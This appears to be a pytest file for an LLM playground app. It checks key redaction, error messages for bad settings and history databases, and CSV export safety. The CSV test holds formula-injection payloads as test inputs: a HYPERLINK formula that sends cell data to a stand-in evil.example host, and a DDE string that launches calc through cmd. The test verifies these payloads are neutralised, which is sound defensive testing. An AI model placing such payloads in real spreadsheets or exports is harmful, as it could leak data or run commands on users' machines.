"""Issue 12, playground side (AppTest): keys never shown, bad settings files and broken history
databases said plainly, CSV exports that a spreadsheet will not run."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playground_helpers import history_store, page_source, texts, wait_for_run

from app.settings.scrub import Scrubber
from vv_llm.testing import FakeLLMServer, Reply

KEY = "sk-playground-SECRET-5c4b3a2918f7e6d5"
PAGES = ["app/pages/compare.py", "app/pages/history.py", "app/pages/dashboard.py", "app/pages/endpoints.py"]


@pytest.fixture
def echo_server() -> Iterator[FakeLLMServer]:
    """A provider that only takes KEY and answers by reflecting it (as a misbehaving proxy might)."""
    with FakeLLMServer(api_keys={KEY}, responder=lambda info: Reply(content=f"You sent {KEY} (url form {quote(KEY)}).")) as server:
        yield server


def _settings(data_dir: Path, server: FakeLLMServer, api_key: str, models: tuple[str, ...] = ("echo-box",)) -> None:
    data_dir.mkdir(parents=True, exist_ok=True)
    (data_dir / "settings.json").write_text(
        json.dumps(
            {
                "VERSION": "2",
                "endpoints": [{"id": "echo", "api_base": server.url("/v1"), "api_key": api_key}],
                "backends": {"local": {"models": {model: {"endpoints": ["echo"]} for model in models}}},
                "retry": {"max_attempts": 1},
            }
        )
    )


def _compare(at: Any, prompt: str) -> Any:
    at.run()
    at.multiselect(key="compare_models").set_value(["local/demo-fast", "local/echo-box"])
    at.text_area(key="prompt").set_value(prompt)
    at.button(key="run-button").click().run()
    assert not at.exception, at.exception
    return wait_for_run(at)


def _no_key(text: str) -> None:
    assert KEY not in text and quote(KEY) not in text and KEY[:20] not in text


# -- 1. a key pasted with a line break -----------------------------------------------------
@pytest.mark.parametrize("ending", ["\n", "\r\n"])
def test_a_key_saved_with_a_line_break_works_and_never_shows(
    app: Any, data_dir: Path, echo_server: FakeLLMServer, monkeypatch: Any, ending: str
) -> None:
    monkeypatch.setenv("VV_LLM_DEMO", "on")
    _settings(data_dir, echo_server, KEY + ending)
    at = _compare(app, "Which key?")
    fast, echo = at.session_state["conversation"].current.run.snapshot()
    assert fast.status == "done"
    assert echo.status == "done", echo.error_message  # the stray line break was stripped, the provider took the key
    _no_key(page_source(at))
    stored = history_store(data_dir).search()[0]
    _no_key(json.dumps([r.result.model_dump() for r in stored.results], default=str))
    _no_key((data_dir / "history.db").read_bytes().decode("latin-1"))


# -- 2. a 200 answer that reflects the key -------------------------------------------------
def test_a_reply_that_reflects_the_key_is_scrubbed_on_the_live_compare_page(app: Any, data_dir: Path, echo_server: FakeLLMServer) -> None:
    # A column that streams for ~8 s whatever the machine's load, so the page is seen live once the
    # reflecting column has finished (demo-slow's 4.5 s could end first on a busy machine).
    slow = Reply(content="still writing " * 20, chunk_chars=7, chunk_delay=0.2)
    echo_server.responder = lambda info: slow if info.model == "slow-box" else Reply(content=f"You sent {KEY} (url form {quote(KEY)}).")
    _settings(data_dir, echo_server, KEY, models=("echo-box", "slow-box"))
    at = app.run()
    at.multiselect(key="compare_models").set_value(["local/slow-box", "local/echo-box"])
    at.text_area(key="prompt").set_value("Which key?")
    at.button(key="run-button").click().run()
    run = at.session_state["conversation"].current.run
    seen_live = False
    for _ in range(200):  # the live view, while demo-slow still streams
        if run.finished:
            break
        if run.column(1).finished:
            seen_live = True
            _no_key(page_source(at))
        run.wait(0.1)
        at.run()
    assert seen_live, "the echo column finished while the other still ran"
    at = wait_for_run(at)
    assert "You sent [redacted]" in "\n".join(texts(at.markdown))
    _no_key(page_source(at))


# -- 3. a settings file the engine cannot read ---------------------------------------------
@pytest.mark.parametrize(
    "content",
    [
        '{"VERSION": "2", "token_server": ' + "[" * 100_000 + "]" * 100_000 + "}",
        '{"VERSION": "2", "token_server": {"deep": ' + "[" * 900 + "]" * 900 + "}}",
        '{"VERSION": "2", "endpoints": [{"id": "caf\xe9"}]}',
        '{"VERSION": 3}',
    ],
    ids=["too-deep-to-parse", "deep-but-parseable", "not-utf8", "unknown-version"],
)
def test_every_page_starts_and_says_what_is_wrong_with_the_settings_file(app: Any, data_dir: Path, content: str) -> None:
    data_dir.mkdir(parents=True, exist_ok=True)
    (data_dir / "settings.json").write_bytes(content.encode("latin-1"))
    at = app.run()
    for page in PAGES:
        at.switch_page(page).run()
        assert not at.exception, (page, at.exception)
    at.switch_page(PAGES[0]).run()
    errors = " ".join(texts(at.error))
    assert "settings file" in errors.lower() or "problem" in errors.lower(), errors


# -- 9. a broken history database ----------------------------------------------------------
def _random_bytes(path: Path) -> None:
    path.write_bytes(b"\x8f\x01not a database at all\xff" * 200)


def _directory(path: Path) -> None:
    path.mkdir()


def _truncated(path: Path) -> None:
    with sqlite3.connect(path) as conn:
        conn.execute("create table filler (x text)")
        conn.executemany("insert into filler values (?)", [("x" * 500,)] * 200)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 3])


def _foreign(path: Path) -> None:
    with sqlite3.connect(path) as conn:
        conn.execute("create table runs (id integer primary key, title text, owner text)")
        conn.execute("insert into runs (title, owner) values ('not ours', 'someone')")


@pytest.mark.parametrize("breaker", [_random_bytes, _directory, _truncated, _foreign], ids=lambda f: f.__name__.strip("_"))
def test_compare_warns_before_a_run_and_says_after_it_that_it_was_not_saved(app: Any, data_dir: Path, breaker: Any) -> None:
    data_dir.mkdir(parents=True, exist_ok=True)
    breaker(data_dir / "history.db")
    at = app.run()
    assert not at.exception
    before = " ".join(texts(at.warning))
    assert "will not be saved" in before and "history" in before.lower()
    at.text_area(key="prompt").set_value("Hello")
    at.button(key="run-button").click().run()
    at = wait_for_run(at)
    assert not at.exception
    assert [s.status for s in at.session_state["conversation"].current.run.snapshot()] == ["done"] * 3
    assert "This run was not saved" in " ".join(texts(at.warning))


# -- 10. CSV formula injection -------------------------------------------------------------
def test_csv_export_neutralises_formulas_and_json_markdown_stay_verbatim(data_dir: Path) -> None:
    from app.compare.runner import ColumnRequest, CompareRun
    from app.history.export import to_csv, to_json, to_markdown
    from app.history.store import HistoryStore
    from vv_llm.settings import settings
    from vv_llm.testing.demo import DemoBackend

    data_dir.mkdir(parents=True, exist_ok=True)
    store = HistoryStore(f"sqlite:///{data_dir / 'history.db'}")
    prompt = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    system = "@SUM(1+1)*cmd|' /C calc'!A0"
    with DemoBackend(pace=0.05) as demo:
        settings.load(demo.settings_dict())
        messages = [{"role": "system", "content": system}, {"role": "user", "content": prompt}]
        run = CompareRun(
            [ColumnRequest("local", "demo-fast", messages, {})], meta={"user_prompt": prompt, "system_prompt": system}, recorder=store
        ).start()
        assert run.wait(30)
    views = store.search()
    rows = list(csv.DictReader(io.StringIO(to_csv(views))))
    assert rows[0]["user_prompt"] == "'" + prompt and rows[0]["system_prompt"] == "'" + system
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "", 1).isdigit(), (name, cell)
    assert json.loads(to_json(views))["runs"][0]["user_prompt"] == prompt
    assert prompt in to_markdown(views)
    from app.history.export import spreadsheet_safe

    assert [spreadsheet_safe(v) for v in ("-1+2", "+44 20", "\tx", "plain", -3, 2.5)] == ["'-1+2", "'+44 20", "'\tx", "plain", -3, 2.5]


def test_test_connection_takes_a_pasted_key_and_never_shows_a_bad_one(echo_server: FakeLLMServer) -> None:
    from app.settings.connection_check import check_endpoint

    data = {
        "VERSION": "2",
        "endpoints": [{"id": "echo", "api_base": echo_server.url("/v1"), "api_key": KEY + "\r\n"}],
        "backends": {"local": {"models": {"echo-box": {"endpoints": ["echo"]}}}},
    }
    result = check_endpoint(data, "echo", "local", "echo-box")
    assert result.ok, result.message
    data["endpoints"][0]["api_key"] = KEY + "é"
    result = check_endpoint(data, "echo", "local", "echo-box")
    assert not result.ok and "SettingsError" in result.message and "endpoints[0].api_key" in result.message
    _no_key(result.message)


def test_a_text_that_ends_part_way_through_a_key_does_not_show_its_beginning() -> None:
    """A stream still arriving (or cut) mid-key: the live view and the saved text hide the key's start."""
    scrub = Scrubber([KEY])
    assert scrub(f"You sent {KEY} (url form {KEY[:30]}") == "You sent [redacted] (url form [redacted]"
    assert scrub(f"a cut answer {KEY[:8]}") == "a cut answer [redacted]"
    assert scrub("an answer ending in sk-pl") == "an answer ending in sk-pl"  # too short to be told from prose
